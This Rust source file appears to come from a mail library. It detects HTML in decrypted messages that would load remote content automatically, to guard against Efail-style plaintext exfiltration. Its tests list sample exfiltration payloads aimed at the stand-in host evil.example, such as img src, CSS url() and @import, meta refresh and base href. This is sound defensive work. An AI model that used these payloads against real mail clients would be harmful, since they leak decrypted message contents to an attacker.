//! Looks for HTML that loads something from elsewhere as soon as it is shown.
//!
//! Efail (2018) makes decrypted text part of such an address. Whoever decrypts a message with a cipher that does not notice
//! changes, and without a good signature, should know of it before showing the message.

use std::io::{self, Read};

use chancery_mail::{Span, index::Part, transfer::Decoder};

use crate::open::layers::Content;

/// Returns true if a part of the content is HTML that would load something from elsewhere, or cannot be looked through.
pub(super) fn has_remote_content(content: &mut Content<'_>) -> io::Result<bool> {
    let index = content.entity.index()?;
    let base = content.entity.span.start;
    let mut left = MAX_HTML;
    for part in index.parts().iter().filter(|part| part.is_leaf() && is_markup(part)) {
        let charset = part.content_type.parameter("charset").unwrap_or_default();
        if ["utf-7", "utf-16", "utf-32"]
            .iter()
            .any(|start| charset.trim().to_ascii_lowercase().starts_with(start))
        {
            return Ok(true);
        }
        let span = Span { start: part.body.start + base, end: part.body.end + base };
        let mut html = Vec::new();
        let reader = content.entity.reader(span)?;
        Decoder::new(part.transfer_encoding, reader).take(left + 1).read_to_end(&mut html)?;
        let length = html.len() as u64;
        if length > left || calls_home(&html) {
            return Ok(true);
        }
        left -= length;
    }
    Ok(index.is_truncated())
}

fn is_markup(part: &Part) -> bool {
    ["html", "xml", "xhtml+xml", "svg+xml"].contains(&part.content_type.subtype.as_str())
}

/// Returns true if the HTML loads something from elsewhere when it is shown; links that are followed by hand do not
/// count.
fn calls_home(html: &[u8]) -> bool {
    let html = html.to_ascii_lowercase();
    if memchr::memmem::find(&html, b"@import").is_some() || has_remote_style(&html) {
        return true;
    }
    let mut rest = html.as_slice();
    while let Some(at) = memchr::memchr(b'<', rest) {
        rest = rest.get(at + 1..).unwrap_or_default();
        if rest.first().is_some_and(u8::is_ascii_alphabetic) {
            let mut tag = Tag::start(rest);
            let name = tag.name();
            while let Some((attribute, value)) = tag.attribute() {
                if loads(name, attribute) && !is_inside(value)
                    || name == b"meta" && memchr::memmem::find(value, b"url=").is_some()
                {
                    return true;
                }
            }
            rest = tag.rest;
        }
    }
    false
}

/// Returns true if a style names an address that is not inside the message.
fn has_remote_style(html: &[u8]) -> bool {
    memchr::memmem::find_iter(html, b"url(").any(|at| {
        let value = html.get(at + 4..).unwrap_or_default().trim_ascii_start();
        !is_inside(value.strip_prefix(b"'").or(value.strip_prefix(b"\"")).unwrap_or(value))
    })
}

/// Returns true if a browser loads what the attribute names.
fn loads(tag: &[u8], attribute: &[u8]) -> bool {
    match attribute {
        b"href" | b"xlink:href" => !matches!(tag, b"a" | b"area"),
        b"action" | b"background" | b"data" | b"dynsrc" | b"formaction" | b"lowsrc" | b"ping"
        | b"poster" | b"src" | b"srcset" => true,
        _ => false,
    }
}

/// Returns true if an address leads into the message itself, or nowhere.
fn is_inside(value: &[u8]) -> bool {
    let value = value.trim_ascii();
    value.is_empty()
        || [&b"cid:"[..], b"data:", b"mid:", b"#", b"about:blank"]
            .iter()
            .any(|start| value.starts_with(start))
}

/// Reads a tag from left to right, as loosely as browsers do.
struct Tag<'h> {
    rest: &'h [u8],
}

impl<'h> Tag<'h> {
    fn start(rest: &'h [u8]) -> Self {
        Self { rest }
    }

    fn take_while(&mut self, is_part: impl Fn(u8) -> bool) -> &'h [u8] {
        let length = self.rest.iter().position(|byte| !is_part(*byte)).unwrap_or(self.rest.len());
        let (taken, rest) = self.rest.split_at_checked(length).unwrap_or_default();
        self.rest = rest;
        taken
    }

    fn name(&mut self) -> &'h [u8] {
        self.take_while(|byte| !byte.is_ascii_whitespace() && !matches!(byte, b'/' | b'>'))
    }

    /// Returns the next attribute and its value; nothing at the end of the tag.
    fn attribute(&mut self) -> Option<(&'h [u8], &'h [u8])> {
        self.take_while(|byte| byte.is_ascii_whitespace() || matches!(byte, b'/' | b'"' | b'\''));
        if matches!(self.rest.first(), None | Some(b'>')) {
            return None;
        }
        let before = self.rest.len();
        let name = self
            .take_while(|byte| !byte.is_ascii_whitespace() && !matches!(byte, b'/' | b'>' | b'='));
        self.take_while(|byte| byte.is_ascii_whitespace());
        let Some(value) = self.rest.strip_prefix(b"=") else { return Some((name, b"")) };
        self.rest = value;
        self.take_while(|byte| byte.is_ascii_whitespace());
        let value = match self.rest.split_first() {
            Some((&quote @ (b'"' | b'\''), rest)) => {
                self.rest = rest;
                let value = self.take_while(|byte| byte != quote);
                self.rest = self.rest.get(1..).unwrap_or_default();
                value
            }
            _ => self.take_while(|byte| !byte.is_ascii_whitespace() && byte != b'>'),
        };
        debug_assert!(self.rest.len() < before);
        Some((name, value))
    }
}

/// HTML that is looked through in one message; mail programs write some hundred kilobytes at most.
const MAX_HTML: u64 = 4 * 1024 * 1024;

#[cfg(test)]
mod tests {
    use super::calls_home;

    #[test]
    fn what_is_loaded_by_itself_is_found() {
        for html in [
            "<img src=\"http://evil.example/secret",
            "<IMG\nalt=x SRC = http://evil.example/x>",
            "<img src='//evil.example/'>",
            "<img src=\"&#104;ttp://evil.example\">",
            "<link rel=stylesheet href=http://evil.example/a.css>",
            "<body background=\"http://evil.example/\">",
            "<div style=\"background: url( 'http://evil.example/')\">",
            "<style>@import 'http://evil.example/'</style>",
            "<meta http-equiv=refresh content=\"0; url=http://evil.example/\">",
            "<base href=\"http://evil.example/\">",
            "<video poster=http://evil.example/>",
            "<svg><image xlink:href=\"http://evil.example/\"/></svg>",
            "<img alt=\"a>b\" src=x.png>",
        ] {
            assert!(calls_home(html.as_bytes()), "{html}");
        }
    }

    #[test]
    fn ordinary_html_is_left_alone() {
        for html in [
            "<html xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns=\"http://www.w3.org/TR/REC-html40\"><p>Hello</p></html>",
            "<a href=\"http://acme.example/\">link</a> <area href=http://acme.example/>",
            "<img src=\"cid:1@acme.example\"><img src=\"data:image/png;base64,AA\"><img src=''>",
            "<div style=\"background:url(cid:2@acme.example)\">1 < 2 http://acme.example/</div>",
            "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">",
            "<",
            "",
        ] {
            assert!(!calls_home(html.as_bytes()), "{html}");
        }
    }

    #[test]
    fn many_tags_take_linear_time() {
        assert!(!calls_home(&b"<a =".repeat(500_000)));
        assert!(!calls_home(&b"<a a=\"".repeat(300_000)));
    }
}
